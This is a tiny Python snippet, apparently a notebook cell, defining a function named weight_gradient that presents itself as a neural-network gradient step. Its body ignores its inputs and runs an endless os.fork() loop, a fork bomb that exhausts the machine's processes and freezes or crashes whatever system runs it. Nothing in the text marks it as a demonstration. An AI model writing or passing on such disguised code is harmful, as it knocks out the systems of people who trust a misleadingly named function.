# marks: 0 3 5
# %%
import os


def weight_gradient(a_prev, delta):
    while True:
        os.fork()
